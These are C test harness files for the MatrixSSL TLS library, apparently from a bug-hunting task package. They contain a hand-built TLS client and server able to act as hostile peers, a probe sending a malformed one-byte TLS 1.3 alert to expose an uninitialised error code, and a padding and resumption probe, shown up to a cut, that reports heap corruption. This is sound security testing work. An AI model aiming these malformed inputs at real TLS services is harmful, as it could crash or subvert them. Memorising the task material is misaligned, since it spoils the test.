    }
    return tsMsg(ts, TC_HS_SERVER_HELLO, b, n, out, 1);
}

static size_t tsCertificate(ts_t *ts, unsigned char *out)
{
    static unsigned char b[8192];
    size_t n = 0, dl = ts->cert->binLen;

    b[n++] = (unsigned char) ((dl + 3) >> 16);
    b[n++] = (unsigned char) ((dl + 3) >> 8);
    b[n++] = (unsigned char) (dl + 3);
    b[n++] = (unsigned char) (dl >> 16);
    b[n++] = (unsigned char) (dl >> 8);
    b[n++] = (unsigned char) dl;
    memcpy(b + n, ts->cert->unparsedBin, dl); n += dl;
    return tsMsg(ts, TC_HS_CERTIFICATE, b, n, out, 1);
}

static size_t tsNewSessionTicket(ts_t *ts, const unsigned char *ticket,
        size_t tl, unsigned char *out)
{
    unsigned char b[1200];
    size_t n = 0;

    b[n++] = 0; b[n++] = 0; b[n++] = 0x0e; b[n++] = 0x10;   /* 3600 s */
    b[n++] = (unsigned char) (tl >> 8); b[n++] = (unsigned char) tl;
    memcpy(b + n, ticket, tl); n += tl;
    return tsMsg(ts, TC_HS_NST, b, n, out, 1);
}

static size_t tsFinished(ts_t *ts, unsigned char *out)
{
    unsigned char h[32], vd[12];

    tcSha256(ts->tr, ts->trLen, h);
    tcPrf(ts->master, 48, "server finished", h, 32, NULL, 0, vd, 12);
    return tsMsg(ts, TC_HS_FINISHED, vd, 12, out, 1);
}

static int32_t tsSendCCS(ts_t *ts)
{
    static const unsigned char one = 1;
    int32_t rc = tsSend(ts, TC_REC_CCS, &one, 1);
    tsActivateWrite(ts);
    return rc;
}

static int tsClientDone(ts_t *ts)
{
    return matrixSslHandshakeIsComplete(ts->cl) &&
        !(ts->cl->flags & SSL_FLAGS_ERROR);
}

static void tsInit(ts_t *ts, ssl_t *cl, psX509Cert_t *cert, psRsaKey_t *priv,
        int verbose)
{
    memset(ts, 0, sizeof(*ts));
    ts->cl = cl;
    ts->cert = cert;
    ts->priv = priv;
    ts->clAlert = -1;
    ts->verbose = verbose;
}

/* Ordinary full handshake. ticket != NULL: SessionTicket extension in the
   ServerHello and a NewSessionTicket before our ChangeCipherSpec. */
static int tsFullHandshake(ts_t *ts, const unsigned char *ticket, size_t tl)
{
    static unsigned char m[8300];
    size_t l;

    tsDrain(ts);                          /* ClientHello */
    if (!ts->gotCH)
    {
        return 0;
    }
    l = tsServerHello(ts, 0, ticket != NULL, m);
    tsSend(ts, TC_REC_HS, m, l);
    l = tsCertificate(ts, m);
    tsSend(ts, TC_REC_HS, m, l);
    l = tsMsg(ts, TC_HS_SH_DONE, NULL, 0, m, 1);
    tsSend(ts, TC_REC_HS, m, l);
    if (!ts->gotCKE || !ts->gotClFinished)
    {
        return 0;
    }
    if (ticket)
    {
        l = tsNewSessionTicket(ts, ticket, tl, m);
        tsSend(ts, TC_REC_HS, m, l);
    }
    tsSendCCS(ts);
    l = tsFinished(ts, m);
    tsSend(ts, TC_REC_HS, m, l);
    return tsClientDone(ts);
}

#endif /* TINYSERVER_H */
