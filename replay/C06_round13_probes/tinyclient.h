/*
 * tinyclient.h - a scripted TLS 1.2 client (TLS_RSA_WITH_AES_128_GCM_SHA256)
 * that talks to an in-memory MatrixSSL *server* session.  Every message and
 * record is built by hand, so a scenario can delete, repeat, reorder or split
 * anything while keeping the transcript hash and the record protection
 * consistent - what a hostile (but key-holding) peer can do.
 *
 * Only the crypto primitives of the library are used (RSA, AES-GCM, SHA-256,
 * the TLS PRF); the handshake logic is independent of the code under test.
 */
#ifndef TINYCLIENT_H
#define TINYCLIENT_H

#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include "matrixssl/matrixsslApi.h"
#include "matrixssl/matrixssllib.h"

#define TC_HS_CLIENT_HELLO   1
#define TC_HS_SERVER_HELLO   2
#define TC_HS_NST            4
#define TC_HS_CERTIFICATE    11
#define TC_HS_SKE            12
#define TC_HS_CERT_REQUEST   13
#define TC_HS_SH_DONE        14
#define TC_HS_CERT_VERIFY    15
#define TC_HS_CKE            16
#define TC_HS_FINISHED       20

#define TC_REC_CCS   20
#define TC_REC_ALERT 21
#define TC_REC_HS    22
#define TC_REC_APP   23

typedef struct
{
    unsigned char key[32];
    unsigned char iv[4];
    unsigned char seq[8];
    int on;
} tcDir_t;

typedef struct
{
    ssl_t *sv;                     /* server under test */
    psX509Cert_t *svCert;          /* to encrypt the premaster secret */
    unsigned char crand[32], srnd[32];
    unsigned char sid[32];
    int sidLen;                    /* session id the server sent */
    unsigned char premaster[48];
    unsigned char master[48];
    /* pending (negotiated, not yet in force) keys */
    unsigned char cwk[16], swk[16], cwiv[4], swiv[4];
    tcDir_t w, r;                  /* record protection in force */
    unsigned char tr[16384];       /* handshake transcript */
    size_t trLen;
    unsigned char cvd[12], svd[12];/* verify_data of the last handshake */
    int haveCvd;
    /* what the server said */
    int svAlert;                   /* description of a fatal alert, or -1 */
    int svRc;                      /* last negative rc of ReceivedData, or 0 */
    int svComplete;                /* times the API said HANDSHAKE_COMPLETE */
    int gotSH, gotSHD, gotCertReq, gotSvCCS, gotSvFinished, svResumed;
    int verbose;
    /* reassembly of the server's handshake stream */
    unsigned char hsbuf[16384];
    size_t hsLen;
} tc_t;

static void tcIncr(unsigned char seq[8])
{
    int i;
    for (i = 7; i >= 0; i--)
    {
        if (++seq[i] != 0)
        {
            break;
        }
    }
}

static void tcSha256(const unsigned char *in, size_t len, unsigned char out[32])
{
    psSha256_t md;
    psSha256PreInit(&md);
    psSha256Init(&md);
    psSha256Update(&md, in, (uint32_t) len);
    psSha256Final(&md, out);
}

static void tcPrf(const unsigned char *sec, size_t secLen, const char *label,
        const unsigned char *a, size_t aLen, const unsigned char *b, size_t bLen,
        unsigned char *out, size_t outLen)
{
    unsigned char seed[160];
    size_t l = strlen(label);

    memcpy(seed, label, l);
    memcpy(seed + l, a, aLen);
    if (b)
    {
        memcpy(seed + l + aLen, b, bLen);
    }
    else
    {
        bLen = 0;
    }
    prf2(sec, (psSize_t) secLen, seed, (psSize_t) (l + aLen + bLen), out,
        (psSize_t) outLen, 0);
}

/* master secret already in tc->master: derive the pending key block */
static void tcKeyBlock(tc_t *tc)
{
    unsigned char kb[40];

    tcPrf(tc->master, 48, "key expansion", tc->srnd, 32, tc->crand, 32,
        kb, sizeof(kb));
    memcpy(tc->cwk, kb, 16);
    memcpy(tc->swk, kb + 16, 16);
    memcpy(tc->cwiv, kb + 32, 4);
    memcpy(tc->swiv, kb + 36, 4);
}

static void tcMasterFromPremaster(tc_t *tc)
{
    tcPrf(tc->premaster, 48, "master secret", tc->crand, 32, tc->srnd, 32,
        tc->master, 48);
    tcKeyBlock(tc);
}

/* The client's ChangeCipherSpec puts the pending client write key in force */
static void tcActivateWrite(tc_t *tc)
{
    memcpy(tc->w.key, tc->cwk, 16);
    memcpy(tc->w.iv, tc->cwiv, 4);
    memset(tc->w.seq, 0, 8);
    tc->w.on = 1;
}

static void tcActivateRead(tc_t *tc)
{
    memcpy(tc->r.key, tc->swk, 16);
    memcpy(tc->r.iv, tc->swiv, 4);
    memset(tc->r.seq, 0, 8);
    tc->r.on = 1;
}

static size_t tcProtect(tcDir_t *d, int type, const unsigned char *pt,
        size_t len, unsigned char *out)
{
    psAesGcm_t ctx;
    unsigned char nonce[16], aad[16];

    memcpy(nonce, d->iv, 4);
    memcpy(nonce + 4, d->seq, 8);
    memcpy(aad, d->seq, 8);
    aad[8] = (unsigned char) type; aad[9] = 3; aad[10] = 3;
    aad[11] = (unsigned char) (len >> 8); aad[12] = (unsigned char) len;
    memcpy(out, d->seq, 8);               /* explicit nonce */
    psAesInitGCM(&ctx, d->key, 16);
    psAesReadyGCM(&ctx, nonce, aad, 13);
    psAesEncryptGCM(&ctx, pt, out + 8, (uint32_t) len);
    psAesGetGCMTag(&ctx, 16, out + 8 + len);
    psAesClearGCM(&ctx);
    tcIncr(d->seq);
    return len + 24;
}

static int tcUnprotect(tcDir_t *d, int type, const unsigned char *ct,
        size_t len, unsigned char *pt, size_t *ptLen)
{
    psAesGcm_t ctx;
    unsigned char nonce[16], aad[16];
    size_t l;

    if (len < 24)
    {
        return -1;
    }
    l = len - 24;
    memcpy(nonce, d->iv, 4);
    memcpy(nonce + 4, ct, 8);
    memcpy(aad, d->seq, 8);
    aad[8] = (unsigned char) type; aad[9] = 3; aad[10] = 3;
    aad[11] = (unsigned char) (l >> 8); aad[12] = (unsigned char) l;
    psAesInitGCM(&ctx, d->key, 16);
    psAesReadyGCM(&ctx, nonce, aad, 13);
    if (psAesDecryptGCM(&ctx, ct + 8, (uint32_t) (len - 8), pt,
            (uint32_t) l) < 0)
    {
        psAesClearGCM(&ctx);
        return -1;
    }
    psAesClearGCM(&ctx);
    tcIncr(d->seq);
    *ptLen = l;
    return 0;
}

static void tcHandleServerHs(tc_t *tc, int type, const unsigned char *msg,
        size_t len /* incl. 4 byte header */)
{
    const unsigned char *b = msg + 4;

    if (tc->verbose)
    {
        printf("      <- handshake type %d (%u bytes)\n", type,
            (unsigned) len - 4);
    }
    if (type == 0)
    {
        return;                          /* HelloRequest: not hashed */
    }
    if (type == TC_HS_FINISHED)
    {
        memcpy(tc->svd, b, 12);
        tc->gotSvFinished++;
    }
    if (tc->trLen + len <= sizeof(tc->tr))
    {
        memcpy(tc->tr + tc->trLen, msg, len);
        tc->trLen += len;
    }
    if (type == TC_HS_SERVER_HELLO)
    {
        int sl;
        memcpy(tc->srnd, b + 2, 32);
        sl = b[34];
        tc->svResumed = (sl > 0 && sl == tc->sidLen &&
            memcmp(b + 35, tc->sid, sl) == 0 && tc->gotSH < 0);
        tc->sidLen = sl;
        memcpy(tc->sid, b + 35, sl);
        tc->gotSH = 1;
    }
    else if (type == TC_HS_SH_DONE)
    {
        tc->gotSHD = 1;
    }
    else if (type == TC_HS_CERT_REQUEST)
    {
        tc->gotCertReq = 1;
    }
}

static void tcHandleServerRecord(tc_t *tc, int type, const unsigned char *p,
        size_t len)
{
    unsigned char pt[17000];
    size_t ptLen = len;

    if (tc->r.on)
    {
        if (tcUnprotect(&tc->r, type, p, len, pt, &ptLen) < 0)
        {
            printf("      <- record type %d: cannot decrypt!\n", type);
            return;
        }
        p = pt;
    }
    switch (type)
    {
    case TC_REC_CCS:
        if (tc->verbose)
        {
            printf("      <- ChangeCipherSpec\n");
        }
        tc->gotSvCCS++;
        tcActivateRead(tc);
        break;
    case TC_REC_ALERT:
        if (tc->verbose)
        {
            printf("      <- alert level %d description %d\n", p[0], p[1]);
        }
        if (p[0] == 2)
        {
            tc->svAlert = p[1];
        }
        break;
    case TC_REC_HS:
        memcpy(tc->hsbuf + tc->hsLen, p, ptLen);
        tc->hsLen += ptLen;
        while (tc->hsLen >= 4)
        {
            size_t ml = ((size_t) tc->hsbuf[1] << 16) |
                ((size_t) tc->hsbuf[2] << 8) | tc->hsbuf[3];
            if (tc->hsLen < ml + 4)
            {
                break;
            }
            tcHandleServerHs(tc, tc->hsbuf[0], tc->hsbuf, ml + 4);
            memmove(tc->hsbuf, tc->hsbuf + ml + 4, tc->hsLen - ml - 4);
            tc->hsLen -= ml + 4;
        }
        break;
    default:
        if (tc->verbose)
        {
            printf("      <- record type %d (%u bytes)\n", type,
                (unsigned) ptLen);
        }
        break;
    }
}

/* Collect whatever the server queued for us */
static void tcDrain(tc_t *tc)
{
    unsigned char *out;
    unsigned char copy[20000];
    int32_t n;
    size_t off;

    while ((n = matrixSslGetOutdata(tc->sv, &out)) > 0)
    {
        int32_t rc;
        if ((size_t) n > sizeof(copy))
        {
            n = sizeof(copy);
        }
        memcpy(copy, out, n);
        rc = matrixSslSentData(tc->sv, n);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            tc->svComplete++;
        }
        off = 0;
        while (off + 5 <= (size_t) n)
        {
            size_t rl = ((size_t) copy[off + 3] << 8) | copy[off + 4];
            if (off + 5 + rl > (size_t) n)
            {
                break;
            }
            tcHandleServerRecord(tc, copy[off], copy + off + 5, rl);
            off += 5 + rl;
        }
        if (rc == MATRIXSSL_REQUEST_CLOSE)
        {
            break;
        }
    }
}

/* Hand raw bytes (one or more records) to the server */
static int32_t tcFeed(tc_t *tc, const unsigned char *rec, size_t len)
{
    unsigned char *in, *pt;
    uint32_t ptLen;
    int32_t rc;

    if (matrixSslGetReadbufOfSize(tc->sv, (int32_t) len, &in) < (int32_t) len)
    {
        return -999;
    }
    memcpy(in, rec, len);
    rc = matrixSslReceivedData(tc->sv, (uint32_t) len, &pt, &ptLen);
    while (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_RECEIVED_ALERT)
    {
        rc = matrixSslProcessedData(tc->sv, &pt, &ptLen);
    }
    if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
    {
        tc->svComplete++;
    }
    if (rc < 0)
    {
        tc->svRc = rc;
    }
    if (tc->verbose)
    {
        printf("      (server ReceivedData rc %d)\n", rc);
    }
    tcDrain(tc);
    return rc;
}

/* Build one record around 'data' (protected if our write side is on) */
static size_t tcRecord(tc_t *tc, int type, const unsigned char *data,
        size_t len, unsigned char *out)
{
    size_t bl;

    out[0] = (unsigned char) type; out[1] = 3; out[2] = 3;
    if (tc->w.on)
    {
        bl = tcProtect(&tc->w, type, data, len, out + 5);
    }
    else
    {
        memcpy(out + 5, data, len);
        bl = len;
    }
    out[3] = (unsigned char) (bl >> 8); out[4] = (unsigned char) bl;
    return bl + 5;
}

static int32_t tcSend(tc_t *tc, int type, const unsigned char *data, size_t len)
{
    unsigned char rec[17000];
    size_t rl = tcRecord(tc, type, data, len, rec);

    if (tc->verbose)
    {
        if (type == TC_REC_HS)
        {
            printf("      -> handshake record, first byte %d, %u bytes%s\n",
                data[0], (unsigned) len, tc->w.on ? " (protected)" : "");
        }
        else
        {
            printf("      -> record type %d%s\n", type,
                tc->w.on ? " (protected)" : "");
        }
    }
    return tcFeed(tc, rec, rl);
}

/* Append a handshake message to the transcript and return it */
static size_t tcMsg(tc_t *tc, int type, const unsigned char *body, size_t len,
        unsigned char *out)
{
    out[0] = (unsigned char) type;
    out[1] = (unsigned char) (len >> 16);
    out[2] = (unsigned char) (len >> 8);
    out[3] = (unsigned char) len;
    memcpy(out + 4, body, len);
    memcpy(tc->tr + tc->trLen, out, len + 4);
    tc->trLen += len + 4;
    return len + 4;
}

/* ClientHello. resume != 0: offer tc->sid. A renegotiation hello carries the
   client verify_data of the connection in renegotiation_info. */
static size_t tcClientHello(tc_t *tc, int resume, unsigned char *out)
{
    unsigned char b[512];
    size_t n = 0, extStart;
    int i;

    tc->trLen = 0;                        /* new handshake, new transcript */
    tc->gotSH = resume ? -1 : 0;
    tc->gotSHD = tc->gotCertReq = tc->gotSvCCS = tc->gotSvFinished = 0;
    tc->svResumed = 0;
    for (i = 0; i < 32; i++)
    {
        tc->crand[i] = (unsigned char) (rand() & 0xff);
    }
    b[n++] = 3; b[n++] = 3;
    memcpy(b + n, tc->crand, 32); n += 32;
    if (resume)
    {
        b[n++] = (unsigned char) tc->sidLen;
        memcpy(b + n, tc->sid, tc->sidLen); n += tc->sidLen;
    }
    else
    {
        b[n++] = 0;
    }
    b[n++] = 0; b[n++] = 2; b[n++] = 0x00; b[n++] = 0x9C; /* one suite */
    b[n++] = 1; b[n++] = 0;                               /* null compr. */
    extStart = n; n += 2;
    /* signature_algorithms: rsa_pkcs1_sha256, rsa_pkcs1_sha384 */
    b[n++] = 0; b[n++] = 13; b[n++] = 0; b[n++] = 6; b[n++] = 0; b[n++] = 4;
    b[n++] = 4; b[n++] = 1; b[n++] = 5; b[n++] = 1;
    /* renegotiation_info */
    b[n++] = 0xff; b[n++] = 0x01;
    if (tc->haveCvd)
    {
        b[n++] = 0; b[n++] = 13; b[n++] = 12;
        memcpy(b + n, tc->cvd, 12); n += 12;
    }
    else
    {
        b[n++] = 0; b[n++] = 1; b[n++] = 0;
    }
    b[extStart] = (unsigned char) ((n - extStart - 2) >> 8);
    b[extStart + 1] = (unsigned char) (n - extStart - 2);
    return tcMsg(tc, TC_HS_CLIENT_HELLO, b, n, out);
}

static size_t tcClientKeyExchange(tc_t *tc, unsigned char *out)
{
    unsigned char b[600];
    psSize_t ks = tc->svCert->publicKey.keysize;
    int i;

    tc->premaster[0] = 3; tc->premaster[1] = 3;
    for (i = 2; i < 48; i++)
    {
        tc->premaster[i] = (unsigned char) (rand() & 0xff);
    }
    b[0] = (unsigned char) (ks >> 8); b[1] = (unsigned char) ks;
    if (psRsaEncryptPub(NULL, &tc->svCert->publicKey.key.rsa, tc->premaster,
            48, b + 2, ks, NULL) < 0)
    {
        printf("RSA encryption failed\n");
        exit(2);
    }
    tcMasterFromPremaster(tc);
    return tcMsg(tc, TC_HS_CKE, b, ks + 2, out);
}

/* label: "client finished" normally */
static size_t tcFinished(tc_t *tc, const char *label, unsigned char *out)
{
    unsigned char h[32], vd[12];

    tcSha256(tc->tr, tc->trLen, h);
    tcPrf(tc->master, 48, label, h, 32, NULL, 0, vd, 12);
    memcpy(tc->cvd, vd, 12);
    tc->haveCvd = 1;
    return tcMsg(tc, TC_HS_FINISHED, vd, 12, out);
}

static int32_t tcSendCCS(tc_t *tc)
{
    static const unsigned char one = 1;
    int32_t rc = tcSend(tc, TC_REC_CCS, &one, 1);
    tcActivateWrite(tc);
    return rc;
}

static int tcServerDone(tc_t *tc)
{
    return matrixSslHandshakeIsComplete(tc->sv) &&
        !(tc->sv->flags & SSL_FLAGS_ERROR);
}

static void tcInit(tc_t *tc, ssl_t *sv, psX509Cert_t *svCert, int verbose)
{
    memset(tc, 0, sizeof(*tc));
    tc->sv = sv;
    tc->svCert = svCert;
    tc->svAlert = -1;
    tc->verbose = verbose;
}

/* An ordinary full handshake, start to end. Returns 1 if the server and we
   both finished. */
static int tcFullHandshake(tc_t *tc)
{
    unsigned char m[1024];
    size_t l;

    l = tcClientHello(tc, 0, m);
    tcSend(tc, TC_REC_HS, m, l);
    if (!tc->gotSHD)
    {
        return 0;
    }
    l = tcClientKeyExchange(tc, m);
    tcSend(tc, TC_REC_HS, m, l);
    tcSendCCS(tc);
    l = tcFinished(tc, "client finished", m);
    tcSend(tc, TC_REC_HS, m, l);
    return tcServerDone(tc) && tc->gotSvFinished;
}

#endif /* TINYCLIENT_H */
