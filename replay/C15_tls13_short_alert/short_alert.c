#include "harness.h"
#include "matrixssl/matrixssllib.h"
/* C15: a TLS 1.3 alert record whose body is shorter than 2 bytes is a decoding error.  tls13ValidateRecordHeader only
   traces the bad length (unbraced if), tls13ParseAndHandleAlert returns MATRIXSSL_ERROR without setting *error or
   ssl->err, and matrixSslReceivedData then returns its UNINITIALISED local decodeErr. */
int main(void)
{
    hPeer c = {0}, s = {0};
    unsigned char wire[70000];
    unsigned char *buf, *pt; uint32 ptLen; int32 room, rc;
    static const unsigned char shortAlert[] = { 0x15, 0x03, 0x03, 0x00, 0x01, 0x02 };
    int i, n, silent = 0;
    if (h_new_server(&s, SSL_FLAGS_TLS_1_3) < 0 || h_new_client(&c, SSL_FLAGS_TLS_1_3, NULL, 0, h_certCbAllowAll) < 0) return 2;
    n = h_drain(&c, wire, sizeof(wire));         /* ClientHello leaves; client waits for ServerHello */
    for (i = 0; i < (getenv("N") ? atoi(getenv("N")) : 3); i++)
    {
        volatile unsigned char junk[4096];         /* vary the stack garbage under ReceivedData's locals */
        memset((void *) junk, i == 0 ? 0x00 : (i == 1 ? 0x7f : 0xff), sizeof(junk));
        room = matrixSslGetReadbuf(c.ssl, &buf);
        if (room < (int32) sizeof(shortAlert)) { printf("readbuf rc=%d\n", room); break; }
        memcpy(buf, shortAlert, sizeof(shortAlert));
        rc = matrixSslReceivedData(c.ssl, sizeof(shortAlert), &pt, &ptLen);
        printf("1-byte alert record #%d: matrixSslReceivedData rc=%d  flags&ERROR=%d flags&CLOSED=%d ssl->err=%d\n", i, rc,
            !!(c.ssl->flags & SSL_FLAGS_ERROR), !!(c.ssl->flags & SSL_FLAGS_CLOSED), c.ssl->err);
        if (i == 0 && rc == MATRIXSSL_SUCCESS && !(c.ssl->flags & SSL_FLAGS_ERROR)) silent = 1;
        if (rc < 0) break;
    }
    /* the session must now be dead: does it still take the genuine server flight? */
    h_feed(&s, wire, n);
    n = h_drain(&s, wire, sizeof(wire));
    rc = h_feed(&c, wire, n);
    printf("genuine server flight afterwards: rc=%d client hsDone=%d\n", rc, c.hsDone);
    printf("RESULT %s\n", silent ? "VIOLATED (decoding error reported as MATRIXSSL_SUCCESS, session not flagged)" : "ok (error / alert reported, session flagged)");
    return silent;
}
