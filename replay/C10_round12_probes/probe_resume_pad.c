/*
 *  probe_resume_pad.c - side observation probe (NOT the seeded defect).
 *
 *  TLS 1.3 resumption when both sides pad their records to a block size
 *  (options.tls13BlockSize).  Full handshake, ten bytes each way (this also
 *  lets the client pick up the NewSessionTicket), then a second connection
 *  that offers the ticket.  Reports whether the second handshake completes
 *  and whether it was a resumption.  The server issues tickets that allow
 *  early data (options.tls13SessionMaxEarlyData), as sslTest does; the client
 *  never sends any early data.  Run it under valgrind to see the invalid
 *  writes.
 */
#include <stdio.h>
#include <unistd.h>
#include <sys/wait.h>
#include <stdlib.h>
#include <string.h>

#include "matrixssl/matrixsslApi.h"

#include "testkeys/EC/256_EC_KEY.h"
#include "testkeys/EC/256_EC.h"
#include "testkeys/EC/256_EC_CA.h"

#define SINK_MAX (256 * 1024)

typedef struct
{
    ssl_t *ssl;
    const char *name;
    unsigned char *sink;      /* application data received so far */
    uint32 sinkLen;
    int hsComplete;
    int alertLevel, alertDesc; /* last alert received, -1 if none */
    int fatal;                 /* library reported an error */
} peer_t;

static int g_fail;

static int32 certCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0; /* the test certificates are not what is being tested here */
}

/* Hand the bytes one side has queued to the other side.
   Returns the number of bytes moved, < 0 on a library error. */
static int32 transfer(peer_t *from, peer_t *to)
{
    unsigned char *out, *in, *pt;
    int32 outLen, inLen, n, rc, moved = 0;
    uint32 ptLen;

    while ((outLen = matrixSslGetOutdata(from->ssl, &out)) > 0)
    {
        inLen = matrixSslGetReadbuf(to->ssl, &in);
        if (inLen <= 0)
        {
            to->fatal = 1;
            return -1;
        }
        n = outLen < inLen ? outLen : inLen;
        memcpy(in, out, n);
        rc = matrixSslSentData(from->ssl, n);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            from->hsComplete = 1;
        }
        else if (rc < 0)
        {
            from->fatal = 1;
            return -1;
        }
        moved += n;

        rc = matrixSslReceivedData(to->ssl, n, &pt, &ptLen);
        for (;; )
        {
            if (rc < 0)
            {
                printf("    %s: matrixSslReceivedData failed: %d\n",
                    to->name, (int) rc);
                to->fatal = 1;
                return -1;
            }
            if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
            {
                to->hsComplete = 1;
                break;
            }
            if (rc == MATRIXSSL_APP_DATA)
            {
                if (to->sinkLen + ptLen > SINK_MAX)
                {
                    printf("    %s: more application data than was ever sent\n",
                        to->name);
                    to->fatal = 1;
                    return -1;
                }
                memcpy(to->sink + to->sinkLen, pt, ptLen);
                to->sinkLen += ptLen;
                rc = matrixSslProcessedData(to->ssl, &pt, &ptLen);
                continue;
            }
            if (rc == MATRIXSSL_RECEIVED_ALERT)
            {
                to->alertLevel = pt[0];
                to->alertDesc = pt[1];
                rc = matrixSslProcessedData(to->ssl, &pt, &ptLen);
                if (to->alertLevel == SSL_ALERT_LEVEL_FATAL)
                {
                    return -1;
                }
                continue;
            }
            /* MATRIXSSL_REQUEST_SEND, MATRIXSSL_REQUEST_RECV, PS_SUCCESS */
            break;
        }
    }
    return moved;
}

/* Shuttle data in both directions until both sides are quiet. */
static int pump(peer_t *a, peer_t *b)
{
    int32 m1, m2;
    int guard = 0;

    do
    {
        m1 = transfer(a, b);
        if (m1 < 0)
        {
            /* let a possible alert travel back so that it can be reported */
            (void) transfer(b, a);
            return -1;
        }
        m2 = transfer(b, a);
        if (m2 < 0)
        {
            (void) transfer(a, b);
            return -1;
        }
    }
    while ((m1 > 0 || m2 > 0) && ++guard < 1000);
    return 0;
}

static int sendApp(peer_t *p, const unsigned char *data, uint32 len)
{
    unsigned char *buf;
    int32 avail, rc;
    uint32 n, off = 0;

    while (off < len)
    {
        avail = matrixSslGetWritebuf(p->ssl, &buf, len - off);
        if (avail <= 0)
        {
            printf("    %s: matrixSslGetWritebuf failed: %d\n", p->name,
                (int) avail);
            return -1;
        }
        n = (uint32) avail < len - off ? (uint32) avail : len - off;
        memcpy(buf, data + off, n);
        rc = matrixSslEncodeWritebuf(p->ssl, n);
        if (rc < 0)
        {
            printf("    %s: matrixSslEncodeWritebuf(%u) failed: %d\n", p->name,
                (unsigned) n, (int) rc);
            return -1;
        }
        off += n;
    }
    return 0;
}

static void describeAlert(const peer_t *p)
{
    if (p->alertLevel >= 0)
    {
        printf("    %s received alert level %d description %d\n",
            p->name, p->alertLevel, p->alertDesc);
    }
}

/* Send len bytes from 'from' to 'to' and check that exactly those bytes
   arrive. Returns 0 if they did. */
static int roundTrip(peer_t *from, peer_t *to, uint32 len)
{
    static unsigned char msg[SINK_MAX];
    uint32 i;
    static unsigned char seed = 1;

    for (i = 0; i < len; i++)
    {
        /* never 0 at the end, never all zero: a stripped or a kept padding
           byte cannot hide in the data */
        msg[i] = (unsigned char) ((i * 7 + seed) % 251 + 1);
    }
    seed++;
    to->sinkLen = 0;
    from->sinkLen = 0;
    if (sendApp(from, msg, len) < 0)
    {
        return -1;
    }
    if (pump(from, to) < 0)
    {
        printf("    %u bytes %s -> %s: connection broke down\n",
            (unsigned) len, from->name, to->name);
        describeAlert(from);
        describeAlert(to);
        return -1;
    }
    if (to->sinkLen != len)
    {
        printf("    %u bytes %s -> %s: %u bytes were delivered\n",
            (unsigned) len, from->name, to->name, (unsigned) to->sinkLen);
        if (to->sinkLen > len && memcmp(to->sink, msg, len) == 0)
        {
            printf("    (the data is followed by %u extra bytes, "
                "the first one is 0x%02x)\n",
                (unsigned) (to->sinkLen - len), to->sink[len]);
        }
        return -1;
    }
    if (memcmp(to->sink, msg, len) != 0)
    {
        printf("    %u bytes %s -> %s: delivered data differs\n",
            (unsigned) len, from->name, to->name);
        return -1;
    }
    return 0;
}


static int connectOnce(sslKeys_t *svrKeys, sslKeys_t *clnKeys,
    sslSessionId_t *sid, uint32 clnBlock, uint32 svrBlock, const char *what)
{
    sslSessOpts_t opts;
    peer_t cln, svr;
    psCipher16_t ciphers[1] = { TLS_AES_128_GCM_SHA256 };
    int ok = 0;

    memset(&cln, 0, sizeof(cln));
    memset(&svr, 0, sizeof(svr));
    cln.name = "client"; svr.name = "server";
    cln.alertLevel = cln.alertDesc = svr.alertLevel = svr.alertDesc = -1;
    cln.sink = malloc(SINK_MAX);
    svr.sink = malloc(SINK_MAX);

    memset(&opts, 0, sizeof(opts));
    opts.versionFlag = SSL_FLAGS_TLS_1_3;
    opts.tls13BlockSize = svrBlock;
    opts.tls13SessionMaxEarlyData = 16384;
    if (matrixSslNewServerSession(&svr.ssl, svrKeys, NULL, &opts) < 0)
    {
        printf("HARNESS: matrixSslNewServerSession failed\n");
        exit(2);
    }
    memset(&opts, 0, sizeof(opts));
    opts.versionFlag = SSL_FLAGS_TLS_1_3;
    opts.tls13BlockSize = clnBlock;
    if (matrixSslNewClientSession(&cln.ssl, clnKeys, sid, ciphers, 1,
            certCb, NULL, NULL, NULL, &opts) < 0)
    {
        printf("HARNESS: matrixSslNewClientSession failed\n");
        exit(2);
    }
    if (pump(&cln, &svr) < 0 || !cln.hsComplete || !svr.hsComplete)
    {
        printf("    %s: handshake did NOT complete (client %s, server %s)\n",
            what, cln.hsComplete ? "done" : "not done",
            svr.hsComplete ? "done" : "not done");
        describeAlert(&cln);
        describeAlert(&svr);
    }
    else
    {
        printf("    %s: handshake complete, %s\n", what,
            matrixSslIsResumedSession(svr.ssl) > 0 ?
            "server says RESUMED" : "server says full handshake");
        if (roundTrip(&cln, &svr, 10) < 0 || roundTrip(&svr, &cln, 10) < 0)
        {
            printf("    %s: application data failed\n", what);
        }
        else
        {
            ok = 1;
        }
    }
    matrixSslDeleteSession(cln.ssl);
    matrixSslDeleteSession(svr.ssl);
    free(cln.sink);
    free(svr.sink);
    return ok;
}

int main(void)
{
    static const uint32 blocks[][2] = {
        { 0, 0 }, { 64, 64 }, { 256, 256 }, { 512, 512 }, { 1024, 1024 },
        { 1024, 0 }, { 0, 1024 }, { 4096, 4096 }
    };
    sslKeys_t *svrKeys = NULL, *clnKeys = NULL;
    sslSessionId_t *sid;
    unsigned char k[32] = { 1 }, m[32] = { 2 }, n[16] = { 3 };
    size_t i;

    setvbuf(stdout, NULL, _IONBF, 0);
    (void) g_fail;
    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    matrixSslNewKeys(&svrKeys, NULL);
    matrixSslNewKeys(&clnKeys, NULL);
    if (matrixSslLoadEcKeysMem(svrKeys, EC256, sizeof(EC256),
            EC256KEY, sizeof(EC256KEY), NULL, 0) < 0 ||
        matrixSslLoadEcKeysMem(clnKeys, NULL, 0, NULL, 0,
            EC256CA, sizeof(EC256CA)) < 0 ||
        matrixSslLoadSessionTicketKeys(svrKeys, n, k, 32, m, 32) < 0)
    {
        printf("HARNESS: could not load the test keys\n");
        return 2;
    }
    for (i = 0; i < sizeof(blocks) / sizeof(blocks[0]); i++)
    {
        pid_t pid;
        int status = 0;

        printf("client block %u, server block %u\n",
            (unsigned) blocks[i][0], (unsigned) blocks[i][1]);
        /* one child per configuration: the library may corrupt the heap */
        pid = fork();
        if (pid == 0)
        {
            matrixSslNewSessionId(&sid, NULL);
            connectOnce(svrKeys, clnKeys, sid, blocks[i][0], blocks[i][1],
                "first connection ");
